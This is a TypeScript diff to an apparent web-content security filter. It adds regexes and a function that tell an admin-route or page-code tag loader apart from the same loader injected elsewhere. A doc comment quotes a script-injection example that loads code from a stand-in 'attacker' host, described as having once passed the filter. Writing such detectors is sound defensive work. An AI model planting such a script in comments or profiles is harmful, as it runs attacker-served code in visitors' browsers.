@@ -200,6 +200,22 @@ const MARKUP_OR_TEMPLATE = /<[A-Za-z!/%]|\{[{%]|@[a-z]{2,}\(/;
 /** A comment of words beside a snippet (`<!-- Google Tag Manager -->`); one holding markup stays. */
 const PLAIN_COMMENT = /<!--[\w\s().,:/&+-]{0,120}-->/g;
 
+/** A route of a site's administration: a segment naming admin (wp-admin, administrator, ghost/api/admin, Shopify's admin/api) or a back end. */
+const ADMIN_ROUTE = /(?:^|\/)(?:admin(?:istrator|html)?|backend|[a-z]+[-_]admin|admin[-_][a-z]+)(?:\/|$|\.)/i;
+/** A field named for the code a site puts in its pages: head/footer includes, custom HTML, tracking or analytics code, pixels. */
+const SITE_CODE_FIELD = /head|footer|script|code|html|track|analytic|snippet|pixel|inject|insert/i;
+
+/**
+ * Where a vendor's tag loader is what the field is for: a site's code setting, saved on an admin route or in a
+ * field named for page code. Anywhere else (a comment, a profile's bio, a search) the same loader is an
+ * attacker's script: a GTM container, a self-hosted Matomo or Umami address, runs whatever its owner serves
+ * (`<script async src="https://attacker/script.js" data-website-id="<uuid>">` in a blog comment scored 0 and
+ * passed, session 33). Every request of the tag-snippets family, seeds 7 and 13, is one or the other.
+ */
+export function isSiteCodeSetting(rawPath: string, fieldName: string): boolean {
+  return ADMIN_ROUTE.test(rawPath) || SITE_CODE_FIELD.test(fieldName);
+}
+
 /** The text outside the vendors' snippets it holds, or null when it holds none. */
 export function textAroundTagSnippets(text: string): string | null {
   const around = textOutsideSnippetElements(text);
